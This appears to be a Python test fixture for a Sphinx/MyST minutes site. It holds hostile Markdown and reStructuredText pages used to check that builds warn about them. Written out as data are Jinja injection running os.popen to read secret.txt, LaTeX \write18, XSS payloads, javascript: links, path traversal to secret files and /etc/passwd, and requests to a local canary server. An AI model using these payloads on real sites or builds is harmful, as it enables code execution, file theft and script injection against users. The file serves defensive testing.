"""Pages written in bad faith: what each tries, where, and nothing of how it is stopped.

``@`` before a line marks the one that the warning has to name. ``{port}`` is that of a server which must
never be asked, ``{root}`` the folder around the sources, where ``secret.txt`` lies.
"""

from __future__ import annotations

from typing import NamedTuple


class Hostile(NamedTuple):
    """A page that tries something."""

    name: str
    text: str
    #: Line that the warning names, 0 when it is about the page.
    line: int
    suffix: str


HEAD = "---\nevent: meeting\n{keys}---\n# Meeting\n\n"
REST_HEAD = ":event: meeting\n\nMeeting\n=======\n\n"
END = "\n\nThe meeting went on.\n"


def _page(name, body, *, keys="", suffix="md"):
    head = HEAD.replace("{keys}", keys) if suffix == "md" else REST_HEAD
    lines = (head + body + END).split("\n")
    marked = [number for number, line in enumerate(lines, 1) if line.startswith("@")]
    text = "\n".join(line.removeprefix("@") for line in lines)
    return Hostile(name, text, marked[0] if marked else 0, suffix)


SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
COMMAND = (
    "{{ cycler.__init__.__globals__.os.popen('touch {root}/ran; cat {root}/secret.txt').read() }}"
)

NINES = "9" * 400

#: By what they are after. The text of each is Markdown.
MARKDOWN = {
    # Code that runs while building.
    "front-matter-jinja": ("{{ x }}", f'myst:\n@  substitutions:\n    x: "{COMMAND}"\n  enable_extensions: [substitution]\n'),
    "front-matter-switches-on": ("<b>x</b>", "myst:\n@  enable_extensions: [html_image, substitution]\n"),
    "front-matter-old-substitutions": ("{{ x }}", '@substitutions:\n  x: "{{ 7*7 }}"\n'),
    "front-matter-in-braces": ("{{ x }}", "@myst: {\"sub\\x73titutions\": {x: '{{ 7*7 }}'}}\n"),
    "front-matter-quoted-key": ("{{ x }}", "\"my\\x73t\":\n@  substitutions: {x: '{{ 7*7 }}'}\n"),
    "body-jinja": (f"@{COMMAND}", ""),
    "body-jinja-environment": ("@{{ env.app.srcdir }}", ""),
    "unknown-extension": ("@```{conjure} import os\nos.system('touch {root}/ran')\n```", ""),
    "include-parser": ("@```{include} ../secret.txt\n:parser: sources.evil\n```", ""),
    "include-parser-inside": ("@```{include} part.txt\n:parser: source.evil\n```", ""),
    # Script in a reader's browser.
    "html-block": ("@<script>fetch('http://127.0.0.1:{port}/html')</script>", ""),
    "html-inline": ('@A <b onclick="alert(1)">word</b>.', ""),
    "html-image": ('@A <img src="../secret.png" onerror="alert(1)"> word.', ""),
    "html-split": ("A <scr\n\n@ipt>alert(1)</script>", ""),
    "html-svg": ("@<svg onload=alert(1)><circle r=1></svg>", ""),
    "html-iframe": ('@<iframe src="http://127.0.0.1:{port}/frame"></iframe>', ""),
    "html-style": ("@<style>body{display:none}</style>", ""),
    "html-form": ('@<form action="http://127.0.0.1:{port}/form"><input name=password></form>', ""),
    "html-base": ('@<base href="http://127.0.0.1:{port}/">', ""),
    "html-comment-breaks-out": ("@<!-- --><script>alert(1)</script><!-- -->", ""),
    "html-comment-short": ("@<!--><script>alert(1)</script>-->", ""),
    "html-in-list": ("- a\n@  <script>alert(1)</script>", ""),
    "raw-html": ("@```{raw} html\n<script>alert(1)</script>\n```", ""),
    "raw-latex": ("@```{raw} latex\n\\immediate\\write18{touch {root}/ran}\\input{{root}/secret.txt}\n```", ""),
    "raw-file": ("@```{raw} html\n:file: ../secret.txt\n```", ""),
    "raw-url": ("@```{raw} html\n:url: http://127.0.0.1:{port}/raw\n```", ""),
    "eval-rst-raw": ("```{eval-rst}\n@.. raw:: html\n\n   <script>alert(1)</script>\n```", ""),
    "eval-rst-role": ("```{eval-rst}\n@.. role:: x(raw)\n   :format: html\n\n:x:`<script>alert(1)</script>`\n```", ""),
    "eval-rst-include": ("```{eval-rst}\n@.. include:: ../secret.txt\n```", ""),
    "eval-rst-substitution": ("```{eval-rst}\n@.. |x| raw:: html\n\n   <script>alert(1)</script>\n\n|x|\n```", ""),
    "meta-refresh": ("Text.", "myst:\n  html_meta:\n@    http-equiv=refresh: 0; url=http://127.0.0.1:{port}/\n"),
    "meta-policy": ("Text.", "html_meta:\n@  http-equiv=Content-Security-Policy: default-src *\n"),
    "meta-referrer": ("Text.", "myst:\n  html_meta:\n@    referrer: unsafe-url\n"),
    "eval-rst-meta": ("```{eval-rst}\n@.. meta::\n   :http-equiv=refresh: 0; url=http://127.0.0.1:{port}/\n```", ""),
    "link-javascript": ("@[here](javascript:alert(1))", ""),
    "link-javascript-case": ("@[here](JaVaScRiPt:alert%281%29)", ""),
    "link-javascript-entity": ("@[here](javascript&colon;alert(1))", ""),
    "link-vbscript": ("@<vbscript:msgbox(1)>", ""),
    "link-data": ("@[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", ""),
    "link-by-reference": ("@[here][x]\n\n[x]: javascript:alert(1)", ""),
    "link-magnet": (f"@[here](magnet:?xt=urn:btih:{'a' * 400})", ""),
    "link-unknown-scheme": ("@[here](steam://run/1)", ""),
    "link-blank": ("[here](https://example.org){target=_blank}\n\n@[x](javascript:alert(1)){.external}", ""),
    "image-javascript": ("@![x](javascript:alert(1))", ""),
    "image-target": ("@```{image} dot.png\n:target: javascript:alert(1)\n```", ""),
    "figure-target": ("@```{figure} dot.png\n:target: data:text/html,<script>alert(1)</script>\n\nCaption.\n```", ""),
    "card-link": ("@:::{card} Card\n:link: javascript:alert(1)\n\nText.\n:::", ""),
    "button-link": ("@:::{button-link} javascript:alert(1)\nPress\n:::", ""),
    "toctree-address": ("@```{toctree}\nEvil <javascript://x%0aalert(1)>\n```", ""),
    "title-with-html": ("@## \\<img src=x onerror=alert(1)> <i>t</i>", ""),
    "formula-link": ("@$\\href{javascript:alert(1)}{x}$", ""),
    "formula-file": ("@$$\n\\input{{root}/secret.txt}\n$$", ""),
    "formula-in-code": ("@$\\csname in\\string put\\endcsname{{root}/secret.txt}$", ""),
    "formula-carets": ("@$^^5cinput{{root}/secret.txt}$", ""),
    "formula-leaves": ("@$x}\\write18{touch {root}/ran}{$", ""),
    "formula-label": ("@```{math}\n:label: a}\\input{{root}/secret.txt}{\nx\n```", ""),
    "columns": ("@```{tabularcolumns} |\\input{{root}/secret.txt}|\n```", ""),
    # Files from elsewhere.
    "include-up": ("@```{include} ../secret.txt\n```", ""),
    "include-absolute": ("@```{include} /../secret.txt\n```", ""),
    "include-link": ("@```{include} link.txt\n```", ""),
    "include-hidden": ("@```{include} .hidden.txt\n```", ""),
    "include-device": ("@```{include} pipe.txt\n```", ""),
    "include-itself": ("@```{include} include-itself.md\n```", ""),
    "literalinclude-up": ("@```{literalinclude} ../secret.txt\n```", ""),
    "literalinclude-diff": ("@```{literalinclude} part.txt\n:diff: ../secret.txt\n```", ""),
    "literalinclude-link": ("@```{literalinclude} link.txt\n```", ""),
    "csv-file": ("@```{csv-table}\n:file: ../secret.txt\n```", ""),
    "csv-absolute": ("@```{csv-table}\n:file: {root}/secret.txt\n```", ""),
    "csv-url": ("@```{csv-table}\n:url: http://127.0.0.1:{port}/csv\n```", ""),
    "download-up": ("@{download}`x <../secret.txt>`", ""),
    "download-link": ("@{download}`x <link.txt>`", ""),
    "download-page": ("@{download}`x <page.html>`", ""),
    "link-to-file": ("@[x](../secret.txt)", ""),
    "link-to-linked-file": ("@[x](link.txt)", ""),
    "link-path": ("@[x](path:../secret.txt)", ""),
    "link-file-scheme": ("@[x](file://{root}/secret.txt)", ""),
    "link-to-page": ("@[x](page.html)", ""),
    "image-up": ("@![x](../secret.png)", ""),
    "image-link": ("@![x](link.png)", ""),
    "image-page": ("@![x](page.html)", ""),
    "image-any-ending": ("@![x](page.*)", ""),
    "image-data": ("@![x](data:image/png;base64,!!!)", ""),
    "svg-script": ("@![x](script.svg)", ""),
    "svg-outside": ("@![x](outside.svg)", ""),
    "svg-entity": ("@![x](entity.svg)", ""),
    "svg-download": ("@{download}`x <script.svg>`", ""),
    # Requests to others.
    "image-remote": ("@![a dot](http://127.0.0.1:{port}/image.png)", ""),
    "image-protocol-relative": ("@![a dot](//127.0.0.1:{port}/image.png)", ""),
    "image-remote-in-link": ("@[![a dot](http://127.0.0.1:{port}/a.png){.small}](https://example.org)", ""),
    "figure-remote": ("@```{figure} http://127.0.0.1:{port}/figure.png\n\nCaption.\n```", ""),
    # The page taken over.
    "class-of-theme": ("{.sidebar-drawer}\n@Everywhere.", ""),
    "class-stretched": ("@[x](https://example.org){.sd-stretched-link}", ""),
    "class-of-directive": ("@```{container} mobile-header\nEverywhere.\n```", ""),
    "id-of-theme": ("{#__navigation}\n@A paragraph.", ""),
    "label-of-theme": ("@(searchbox)=\n## Section", ""),
    "image-over-all": ('@<script>1</script>\n\n![x](dot.png){width="100%;position:fixed;top:0"}', ""),
    "class-of-a-part": ("@:::{dropdown} T\n:class-container: sidebar-drawer\nText.\n:::", ""),
    "class-of-a-title": ("@:::{dropdown} T\n:class-title: overlay\nText.\n:::", ""),
    "class-of-scripts": ("@[[x](http://127.0.0.1:{port}/cite)]{.minutes-cite-notes}", ""),
    "class-that-leads-on": ("@[x](http://127.0.0.1:{port}/moved){.minutes-moved-page}", ""),
    # Numbers that no machine has room for.
    "lines-to-mark": ("```{code-block} text\n@:emphasize-lines: 1-999999999\nx\n```", ""),
    "lines-to-mark-in-braces": ('{emphasize-lines="1-999999999"}\n@```python\nx\n```', ""),
    "lines-to-show": ("```{literalinclude} part.txt\n@:lines: 1-999999999\n```", ""),
    "many-lines-to-show": (f"```{{literalinclude}} part.txt\n@:lines: {'1-99999,' * 1000}1\n```", ""),
    "include-tabs": ("```{include} part.txt\n@:tab-width: 999999999\n```", ""),
    "literalinclude-tabs": ("```{literalinclude} part.txt\n@:tab-width: 999999999\n```", ""),
    "image-width": (f"```{{image}} dot.png\n@:width: {NINES}%\n```", ""),
    "image-scale": (f"```{{image}} dot.png\n@:scale: {NINES}\n```", ""),
    "number-in-words": ("(a)=\n```{figure} dot.png\nCaption\n```\n\n@{numref}`%999999999s <a>`", ""),
    "number-in-braces": ("(a)=\n```{figure} dot.png\nCaption\n```\n\n@{numref}`{number:>999999999} <a>`", ""),
    "number-of-a-talk": (f"## T\n\n:::{{talk}}\n:number: {NINES * 20}\n:::\n\n:::{{attendees}}\n@:count: {NINES * 20}\n- A\n:::", ""),
    # What other parts of MyST and sphinx-design hand on as typed.
    "front-matter-merged": ("{{ x }}", "base: &b {enable_extensions: [substitution], substitutions: {x: '{{ 7*7 }}'}}\nmyst:\n@  <<: *b\n"),
    "front-matter-meta-attribute": ("Text.", "myst:\n  html_meta:\n@    'description lang=en\" onload=\"x': y\n"),
    "style-of-a-div": ("@:::{div}\n:style: position:fixed;top:0\n\nEverywhere.\n:::", ""),
    "icon-leaves-its-class": ('@{octicon}`alert;1em;"><script>alert(1)</script>`', ""),
    "icon-with-a-handler": ('@{material-regular}`10k;1em;x" onload="alert(1)`', ""),
    "icon-hides-the-end": ('@{octicon}`alert;1em;x" viewBox="0 0 1 1" aria-hidden="true"><script>alert(1)</script>`', ""),
    "icon-over-all": ("@{octicon}`alert;1em;overlay`", ""),
    "icon-in-tex": ("@{fas}`x}\\input{{root}/secret.txt}{`", ""),
    "badge-link": ("@{bdg-link-primary}`x <javascript:alert(1)>`", ""),
    "card-picture": ("@:::{card} T\n:img-top: http://127.0.0.1:{port}/card.png\n\nText.\n:::", ""),
    "card-picture-behind": ("@:::{card} T\n:img-background: ../secret.png\n\nText.\n:::", ""),
    "card-class": ("@:::{card} T\n:class-card: sidebar-drawer\n\nText.\n:::", ""),
    "tab-code-from-outside": ("````{tab-set-code}\n@```{literalinclude} ../secret.txt\n```\n````", ""),
    "figure-md": ("```{figure-md} fig\n@![x](../secret.png)\n\nCaption.\n```", ""),
    "image-embedded": ("@```{image} ../secret.png\n:loading: embed\n```", ""),
    "image-in-code": ("@![x](..%2fsecret.png)", ""),
    "include-in-include": ("@```{include} chain.txt\n```", ""),
    "include-slashes": ("@```{include} //{root}/secret.txt\n```", ""),
    "include-long-name": (f"@```{{include}} {'a' * 5000}\n```", ""),
    "image-long-name": (f"@![x]({'a' * 5000}.png)", ""),
    "link-long-name": (f"@[x]({'a/' * 3000}b.md)", ""),
    "download-long-name": (f"@{{download}}`x <{'b' * 5000}>`", ""),
    "link-encoded": ("@[x](%2e%2e/secret.txt)", ""),
    "link-hidden": ("@[x](.hidden.txt)", ""),
    "link-tab": ("@[x](<java\tscript:alert(1)>)", ""),
    "link-of-myst": ("@[z](myst:javascript:alert(1))", ""),
    "contents-absolute": ("@```{toctree}\nX <file:///etc/passwd>\n```", ""),
    "list-begins-nowhere": ("{start=99999999999999999999}\n@1. x", ""),
    "list-begins-with-words": ("{start=x}\n@1. x", ""),
    "no-columns": ("```{hlist}\n@:columns: 0\n- a\n```", ""),
    "formula-defines": ("@$\\newcommand{\\x}{\\href{javascript:alert(1)}{a}}\\x$", ""),
    "formula-in-html": ("@$\\class{overlay}{x}\\cssId{__toc}{y}\\unicode{60}$", ""),
    "formula-requires": ("@$\\require{html}\\style{position:fixed}{x}$", ""),
    "only-expression": ("@```{only} __import__('os').system('touch {root}/ran')\nHidden.\n```", ""),
    "graph": ("@```{graphviz} ../secret.txt\n```", ""),
    "autodoc": ("@```{autofunction} os.system\n```", ""),
    "html-in-term": ("```{glossary}\nWord\n  Text.\n\n@A <b>word</b>\n  Text.\n```", ""),
    "html-in-title": ("Text.\n\n@:::{admonition} A <script>alert(1)</script>\nText.\n:::", ""),
    # What our own keys and options make of addresses.
    "event-recording": ("Text.", "recording: x\n@event: {recording: 'javascript:alert(1)'}\n"),
    "event-picture": ("## S\n\n:::{event}\n@:image: ../secret.png\n:::", ""),
    "talk-slides": ("## S\n\n:::{talk}\n@:slides: javascript:alert(1)\n:::", ""),
    "talk-speaker": ("## S\n\n:::{talk}\n@:speakers: Ada (`Club <vbscript:x>`_)\n:::", ""),
    "technology-homepage": (":::{technology} Word\n@:homepage: javascript:alert(1)\n\nText.\n:::", ""),
    "list-item-link": (":::{attendees}\n@- [Ada](javascript:alert(1))\n:::", ""),
    # Text that is not what it seems.
    "bidi-override": ("@Approved by \u202eecilA\u202c.", ""),
    "bidi-isolate": ("@Approved by \u2066Alice.", ""),
    "zero-width": ("@Open\u200bStack", ""),
    "tags": ("@Hello\U000e0068\U000e0069", ""),
    "look-alike": ("@About \u041epenstack.", ""),
    "nul": ("@A\x00B", ""),
    "control": ("@A\x1b[31mB", ""),
}  # fmt: skip

#: The same, where reStructuredText has its own ways.
REST = {
    "raw-html": "@.. raw:: html\n\n   <script>alert(1)</script>",
    "raw-latex": "@.. raw:: latex\n\n   \\input{{root}/secret.txt}",
    "raw-file": "@.. raw:: html\n   :file: ../secret.txt",
    "raw-url": "@.. raw:: html\n   :url: http://127.0.0.1:{port}/raw",
    "raw-role": "@.. role:: x(raw)\n   :format: html\n\n:x:`<script>alert(1)</script>`",
    "raw-substitution": "@.. |x| raw:: html\n\n   <script>alert(1)</script>\n\n|x|",
    "role-taken": "@.. role:: guilabel(strong)\n\n:guilabel:`x`",
    "include-up": "@.. include:: ../secret.txt",
    "include-absolute": "@.. include:: {root}/secret.txt",
    "include-link": "@.. include:: link.txt",
    "include-device": "@.. include:: pipe.txt",
    "include-standard": "@.. include:: <../../../../../../../../{root}/secret.txt>",
    "include-parser": "@.. include:: part.txt\n   :parser: source.evil",
    "include-literal": "@.. include:: ../secret.txt\n   :literal:",
    "literalinclude-up": "@.. literalinclude:: ../secret.txt",
    "csv-file": "@.. csv-table::\n   :file: ../secret.txt",
    "csv-url": "@.. csv-table::\n   :url: http://127.0.0.1:{port}/csv",
    "meta-refresh": "@.. meta::\n   :http-equiv=refresh: 0; url=http://127.0.0.1:{port}/",
    "link-javascript": "@`here <javascript:alert(1)>`_",
    "link-target": "here_\n\n.. _here: javascript:alert(1)",
    "link-data": "@`here <data:text/html,x>`__",
    "image-remote": "@.. image:: http://127.0.0.1:{port}/image.png",
    "image-target": "@.. image:: dot.png\n   :target: javascript:alert(1)",
    "image-up": "@.. image:: ../secret.png",
    "image-substitution": "|x|\n\n.. |x| image:: ../secret.png",
    "svg-script": "@.. image:: script.svg",
    "download-up": "@:download:`x <../secret.txt>`",
    "toctree-address": "@.. toctree::\n\n   Evil <javascript://x%0aalert(1)>",
    "formula-file": "@:math:`\\input{{root}/secret.txt}`",
    "formula-block": "@.. math::\n\n   \\href{javascript:alert(1)}{x}",
    "columns": "@.. tabularcolumns:: |\\input{{root}/secret.txt}|",
    "class-of-theme": ".. rst-class:: sidebar-drawer\n\n@Everywhere.",
    "container-of-theme": "@.. container:: overlay\n\n   Everywhere.",
    "include-tabs": "@.. include:: part.txt\n   :tab-width: 999999999",
    "image-scale": f"@.. image:: dot.png\n   :scale: {NINES}",
    "image-width": f"@.. image:: dot.png\n   :width: {NINES}px",
    "image-named-like-tex": "@.. image:: a}^^5cinput{b}.png",
    "head-of-pages": "@.. header:: Approved",
    "number-of-an-item": f"@{NINES}. item",
    "surrogate": "|x|\n\n.. |x| unicode:: 0xD800",
    "bomb": "|a9|\n\n.. |a0| replace:: ha\n"
    + "\n".join(f".. |a{n + 1}| replace:: {' '.join([f'|a{n}|'] * 9)}" for n in range(9)),
    "role-of-a-role": "@.. role:: a( RAW )\n   :format: html\n\n.. role:: b(a)\n\n:b:`<script>alert(1)</script>`",
    "substitution-replaces": "@.. |x| replace:: `here <javascript:alert(1)>`_\n\n|x|",
    "include-in-include": "@.. include:: chain.rst.txt",
    "image-target-named": "@.. image:: dot.png\n   :target: x_\n\n.. _x: javascript:alert(1)",
    "target-of-target": "a_\n\n.. _a: b_\n@.. _b: javascript:alert(1)",
    "csv-in-a-list": ".. list-table::\n\n@   * - .. csv-table::\n          :file: ../secret.txt",
    "quoted-raw": ".. admonition:: T\n\n@   .. raw:: html\n\n      <script>alert(1)</script>",
    "ifconfig": "@.. ifconfig:: __import__('os').system('touch {root}/ran')\n\n   x",
    "meta-cookie": "@.. meta::\n   :http-equiv=Set-Cookie: a=b",
    "figure-long-name": f"@.. figure:: {'a' * 5000}.png\n   :figwidth: image",
    "code-numbers": "@.. code:: python\n   :number-lines: 99999999999999\n\n   x",
    "talk-links": ".. talk:: T\n@   :links: [a](data:text/html,x), https://example.org",
    "unknown-directive": "@.. automodule:: antigravity",
    "bidi-override": "@Approved by \u202eecilA\u202c.",
}

PAGES = [
    *(_page(name, body, keys=keys) for name, (body, keys) in MARKDOWN.items()),
    *(_page(f"rest-{name}", body, suffix="rst") for name, body in REST.items()),
]
